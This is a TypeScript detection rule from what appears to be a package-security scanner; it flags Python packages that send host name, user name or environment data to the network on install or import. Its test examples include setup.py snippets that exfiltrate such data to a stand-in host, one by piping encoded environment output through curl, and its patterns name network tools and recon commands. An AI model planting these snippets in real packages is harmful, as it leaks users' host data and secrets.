import { defineRule } from '../types.js';
import type { PyPackage, PyReport } from '../../analysis/python/model.js';
import { triggerOf } from '../../analysis/python/model.js';
import { at, isAuto, when } from './util.js';
import type { Dest } from '../../analysis/python/values.js';
import { isHostileDest, makeDest } from '../../analysis/python/values.js';
import type { Severity } from '../../core/types.js';

function isHostSource(l: string): boolean {
  return l.startsWith('recon:') || l === 'env:*';
}

/** Data that identifies the machine or its user (not just the platform or file names). */
function isIdentity(labels: readonly string[]): boolean {
  return labels.some((l) => l !== 'recon:platform' && l !== 'recon:files');
}

/** A network tool on the command line. */
const NET_TOOL_RE = /(?:^|[\s;&|(`'"])(?:curl|wget|nc|ncat|netcat|Invoke-WebRequest|Invoke-RestMethod|iwr|irm)(?:\.exe)?\s/i;
/** A command substitution that runs a host-identity or environment command (not `uname -m`: platform names pick downloads). */
const SHELL_HOST_DATA_RE = /(?:\$\(|`)\s{0,3}((?:whoami|hostname|id|uname\s+-[an]|env|printenv|ifconfig|ip\s+a(?:ddr)?|cat\s+\/etc\/(?:passwd|hosts))\b[^)`]{0,80})/;
const URL_IN_CMD_RE = /\b(?:https?|ftp):\/\/[^\s'"`)]{3,200}|\b\d{1,3}(?:\.\d{1,3}){3}\b/i;

function destText(d: Dest | undefined): string {
  return d === undefined ? 'a computed destination' : `${d.host || d.raw} (${d.cls}${d.obfuscated ? ', hidden' : ''})`;
}

export const hostDataExfiltration = defineRule<PyPackage, PyReport>({
  meta: {
    id: 'py/host-data-exfiltration',
    kind: 'threat',
    category: 'exfiltration',
    severity: 'critical',
    confidence: 'high',
    ecosystems: ['pypi'],
    description: 'Sends host data (host name, user name, working directory, IP, environment) to the network when installed or imported.',
    details: 'The shape of dependency-confusion probes and of the first stage of many stealers. Flows are tracked through variables, containers, formatting and function calls.',
    examples: {
      positive: [
        { files: { 'setup.py': "import socket, getpass, requests\nd = {'h': socket.gethostname(), 'u': getpass.getuser()}\nrequests.post('https://collect.invalid/x', json=d)\n" } },
        { files: { 'setup.py': "import os, socket\nsocket.gethostbyname(os.getlogin() + '.probe.invalid')\n" } },
        { files: { 'setup.py': "import os\nos.system('curl \"https://collect.invalid/x/$(env | base64 -w 0)\"')\n" } },
      ],
      negative: [
        { files: { 'setup.py': "import platform\nfrom setuptools import setup\nsetup(name='x', version=platform.python_version())\n" } },
        { files: { 'pkg/client.py': "import socket, requests\ndef ping(url):\n    return requests.get(url, headers={'X-Host': socket.gethostname()})\n" }, note: 'call-time telemetry to a caller-chosen URL' },
      ],
    },
  },
  check(pkg, report) {
    for (const file of pkg.files) {
      for (const s of file.facts.sinks) {
        const recon = s.sources.filter(isHostSource);
        if (recon.length === 0) continue;
        if (s.dest?.cls === 'local' || s.dest?.cls === 'vendor') continue;
        // Resolving one's own host name (gethostbyname(gethostname())) sends nothing out.
        if (s.kind === 'dns' && (s.dest === undefined || s.dest.cls === 'dynamic')) continue;
        const loc = at(file, s);
        if (!isAuto(loc.trigger) && !isHostileDest(s.dest)) continue;
        const identity = isIdentity(recon);
        let severity: Severity;
        // Platform strings and file names alone go into many download URLs (wheels per platform,
        // mirrors listing a folder): high only towards a hostile destination.
        if (isAuto(loc.trigger)) severity = identity ? 'critical' : isHostileDest(s.dest) ? 'high' : 'medium';
        else severity = s.dest?.cls === 'messenger' || s.dest?.cls === 'oob' || s.dest?.cls === 'ip' || s.dest?.cls === 'onion' ? 'critical' : 'high';
        report({ ...loc, severity, message: `Sends ${recon.join(', ')} to ${destText(s.dest)} via ${s.via} ${when(loc.trigger)}.`, data: { sources: recon, destination: s.dest?.host } });
      }
    }
    // Shell one-liners that splice host data into a request: `curl https://x/?u=$(whoami)`, `wget .../$(env | base64)`.
    for (const file of pkg.files) {
      for (const c of file.facts.commands) {
        const trigger = triggerOf(file, c);
        if (trigger !== 'install' && trigger !== 'startup') continue;
        const m = SHELL_HOST_DATA_RE.exec(c.cmd);
        if (m === null || !NET_TOOL_RE.test(c.cmd)) continue;
        const dest = makeDest(URL_IN_CMD_RE.exec(c.cmd)?.[0] ?? '', false);
        if (dest.cls === 'local' || dest.cls === 'vendor') continue;
        report({ ...at(file, c), message: `Sends the output of \`${m[1] ?? ''}\` to ${destText(dest)} with a shell command ${when(trigger)}.` });
      }
    }
    for (const f of pkg.flows) {
      const recon = f.sources.filter(isHostSource);
      if (recon.length === 0 || f.sink.dest?.cls === 'local' || f.sink.dest?.cls === 'vendor') continue;
      const trigger = triggerOf(f.file, f.ev);
      if (!isAuto(trigger) && !isHostileDest(f.sink.dest)) continue;
      report({
        path: f.file.path,
        line: f.ev.line,
        col: f.ev.col,
        trigger,
        severity: (isAuto(trigger) && isIdentity(recon)) || f.sink.dest?.cls === 'messenger' || f.sink.dest?.cls === 'oob' ? 'critical' : 'high',
        message: `Passes ${recon.join(', ')} to ${f.callee}(), which sends it to ${destText(f.sink.dest)} (${f.sinkFile}:${f.sink.line}) ${when(trigger)}.`,
      });
    }
  },
});
